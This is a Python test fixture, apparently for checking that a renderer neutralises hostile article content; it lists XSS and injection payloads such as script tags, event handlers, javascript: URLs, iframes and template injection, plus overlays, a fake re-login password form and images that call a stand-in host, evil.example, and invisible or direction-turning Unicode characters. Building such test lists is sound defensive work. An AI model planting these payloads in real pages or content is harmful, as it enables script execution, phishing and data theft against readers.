"""What a hostile article may hold, to run something in the reader's browser, to load something, or to cover the page.

Each would set `window.hit`, raise a dialog, ask another host, or lay itself over the page, if it were taken for markup.
"""

from __future__ import annotations

_AWAY = "http://evil.example/x"
PAYLOADS = [
    # scripts
    "<script>window.hit=1</script>", "<ScRiPt >window.hit=1</sCrIpT>", f"<script src={_AWAY}></script>", "<script>alert(1)//",
    "</script><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<!--<script>alert(1)//--><script>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<script type=module>window.hit=1</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # event handlers
    "<img src=x onerror=window.hit=1>", "<img src=x oneRRor=alert`1`>", "<body onload=alert(1)>", "<div onmouseover=alert(1)>move here</div>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>m</marquee>", "<select autofocus onfocus=alert(1)>", "<button popovertarget=p onclick=alert(1)>b</button><p popover id=p>",
    "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "x` onerror=`alert(1)",
    # addresses
    "<a href=javascript:alert(1)>click</a>", "<a href=\"java&#115;cript:alert(1)\">click</a>", "javascript:alert(1)", "[click](javascript:alert(1))",
    "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<iframe src=javascript:alert(1)></iframe>", f"<iframe src={_AWAY}></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<object data={_AWAY}></object>", f"<embed src={_AWAY}>", f"<base href={_AWAY}/>", f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<form action={_AWAY}><input name=password><button>Log in again</button></form>", f"<link rel=stylesheet href={_AWAY}>",
    # pictures and drawings
    f"<img src={_AWAY}>", f"![pixel]({_AWAY})", f"<img srcset='{_AWAY} 1x'>", "<svg onload=alert(1)></svg>", "<svg><script>alert(1)</script></svg>",
    f"<svg><use href={_AWAY}#a></use></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "<svg><a href=javascript:alert(1)><text y=20>t</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", f"<video poster={_AWAY}></video>", f"<audio src={_AWAY} autoplay></audio>",
    # styles that cover or fetch
    f"<style>@import '{_AWAY}';</style>", f"<div style='position:fixed;inset:0;z-index:9999;background:url({_AWAY})'>Session ended, log in</div>",
    "<style>body{display:none}</style>", "<p style=position:fixed;top:0;left:0;width:9999px;height:9999px>covered</p>",
    # templates and Markdown
    "${window.hit=1}", "{{constructor.constructor('window.hit=1')()}}", "#{window.hit=1}", "<%= window.hit=1 %>", "`${alert(1)}`", "$$\\href{javascript:alert(1)}{x}$$",
    "```html\n<script>alert(1)</script>\n```", f"[ref]: {_AWAY}\n![x][ref]", f"<{_AWAY}>", "\n# Heading\n\n---\n| a | b |\n|---|---|\n", "</p></div></li></ol></main><h1>New page</h1>",
    # names of ours, and what clobbers
    "<div id=panel></div><form id=composer>", "<img name=querySelector>", "[1](#src-1) <button class=chip>1</button>", "__proto__", "constructor",
    # signs that are not seen, and that turn the direction
    "\u202etxt.exe\u202c", "\u2066\u2067turned\u2069", "\u200f\u200ehidden\u200b", "\ufeff\u0000\u0008zero", "\U000e0041\U000e0042tags", "a\u2028b\u2029c",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
]  # fmt: skip
